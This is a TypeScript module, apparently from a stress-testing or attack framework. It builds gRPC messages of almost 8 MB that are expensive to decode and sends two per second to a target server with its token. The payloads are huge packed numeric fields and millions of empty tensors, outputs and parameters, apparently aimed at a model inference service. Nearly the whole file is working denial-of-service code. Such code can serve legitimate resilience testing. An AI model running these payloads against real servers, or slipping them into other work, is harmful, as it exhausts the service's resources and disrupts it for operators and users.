// gRPC messages of almost 8 MB that are costly to decode: numbers one by one, millions of empty tensors, of parameters, of outputs. Two per second.
import { type Attack, turns } from '../attack';
import { messageHead, openCall, openSession } from '../grpc-connections';

const length = (8 << 20) - 1000;

/** A field of protocol buffers whose content has a length. */
function field(number: number, content: Buffer): Buffer {
  const size: number[] = [];
  for (let rest = content.length; ; rest >>>= 7) {
    size.push(rest < 128 ? rest : (rest & 127) | 128);
    if (rest < 128) break;
  }
  return Buffer.concat([Buffer.from([number * 8 + 2, ...size]), content]);
}

const empty = Buffer.alloc(0);
const many = (piece: Buffer): Buffer => Buffer.concat(Array(Math.floor(length / piece.length)).fill(piece));
/** inputs[0].contents with a field of numbers. */
const contents = (number: number): Buffer => field(5, field(5, field(number, Buffer.alloc(length))));
const messages = [
  contents(2), // int_contents
  contents(6), // fp32_contents
  contents(4), // uint_contents
  many(field(5, empty)), // inputs
  many(field(6, empty)), // outputs
  many(field(7, empty)), // raw_input_contents
  many(field(4, field(1, Buffer.from('a')))), // parameters
  field(5, field(5, many(field(8, empty)))), // bytes_contents
];

export const attack: Attack = (target, tally) => async (signal) => {
  let session = openSession(target, tally);
  let i = 0;
  for await (const _ of turns(2, signal)) {
    const call = openCall(session, tally, target.token);
    if (call === undefined) session = openSession(target, tally);
    else {
      const message = messages[i++ % messages.length]!;
      call.write(messageHead(message.length));
      call.end(message);
      await new Promise((resolve) => call.once('close', resolve));
    }
  }
};
